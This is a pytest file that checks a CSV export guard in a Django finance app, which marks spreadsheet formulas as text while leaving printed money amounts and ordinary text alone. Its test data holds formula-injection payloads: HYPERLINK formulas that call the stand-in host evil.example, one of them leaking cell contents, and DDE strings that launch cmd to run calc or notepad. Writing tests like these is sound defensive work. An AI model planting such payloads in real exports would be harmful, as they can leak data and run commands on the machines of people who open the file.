"""The CSV formula guard (``minutebook.exports.spreadsheet_text``): text a spreadsheet would run
as a formula gets a leading apostrophe; text it would not (a signed amount as printed) is left
as the reader expects it."""

import pytest

from finance.models import FinancialLine
from minutebook.exports import spreadsheet_text
from tests.factories import PaperFactory
from tests.web.money import csv_table, line


@pytest.mark.parametrize(
    "formula",
    [
        '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        "=1+1",
        "+1+1",
        "-1+1",
        "-2+3+cmd|' /C calc'!A0",
        "+cmd|' /C notepad'!A0",
        "@SUM(A1:A9)",
        "@SUM(A1)",
        "-SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "\tplain text after a tab",
        "＝1+1",  # full-width equals sign
        "＋1+1",
        "－1+1",
        "＠SUM(A1)",
        "－£1,895",  # full-width forms are always guarded
        " =1+1",  # spaces a spreadsheet may trim first
        "\n=1+1",
        "\u3000＝1+1",
        "-£1,895+A1",
        "-£1,895 ",  # not an amount and nothing else
        "-1e5",
        "+44 1480 456111",
    ],
)
def test_a_formula_is_written_as_text(formula):
    assert spreadsheet_text(formula) == "'" + formula


@pytest.mark.parametrize(
    "printed",
    [
        "-£1,895",
        "-£795",
        "-£795k",
        "-£1.2m",
        "+£52.50",
        "-5,146",
        "- £561",
        "+12.5%",
        "-£2bn",
        "-",
        "+",
    ],
)
def test_a_signed_amount_as_printed_is_left_as_it_reads(printed):
    assert spreadsheet_text(printed) == printed


@pytest.mark.parametrize(
    "text",
    [
        "Circa £1m",
        "(£795)",
        "over £5m",
        "Joint Protective Services",
        "Cost of the change team – £6,348k",
        "a = b",
        "ICT @ Huntingdon",
        "",
    ],
)
def test_ordinary_text_is_left_alone(text):
    assert spreadsheet_text(text) == text


def test_nothing_is_written_as_an_empty_cell():
    assert spreadsheet_text(None) == ""


def finance_csv(client) -> dict[int, dict[str, str]]:
    response = client.get("/finance/lines.csv")
    assert response.status_code == 200
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    return {int(row["Line"]): row for row in csv_table(content)}


@pytest.mark.django_db
def test_the_finance_csv_keeps_a_negative_figure_as_printed(client):
    printed = line(
        "-1895000", kind=FinancialLine.Kind.BUDGET, paper=PaperFactory(), as_printed="-£1,895"
    )
    assert finance_csv(client)[printed.pk]["As printed"] == "-£1,895"


@pytest.mark.django_db
def test_the_finance_csv_guards_every_text_column_a_formula_can_be_typed_into(client):
    formulas = {
        "Description": '=HYPERLINK("http://evil.example","x")',
        "Scope": "＝1+1",
        "As printed": "@SUM(A1)",
        "Printed in table": "-2+3+cmd|' /C calc'!A0",
    }
    fields = ["description", "scope", "as_printed", "source_table"]
    saved = line("1000", paper=PaperFactory(), **dict(zip(fields, formulas.values(), strict=True)))
    row = finance_csv(client)[saved.pk]
    assert {column: row[column] for column in formulas} == {
        column: "'" + value for column, value in formulas.items()
    }


@pytest.mark.django_db
def test_the_finance_csv_guards_the_record_title(client):
    paper = PaperFactory(title='=HYPERLINK("http://evil.example","Estates")')
    saved = line("1000", paper=paper)
    assert finance_csv(client)[saved.pk]["Record"] == "'" + paper.title
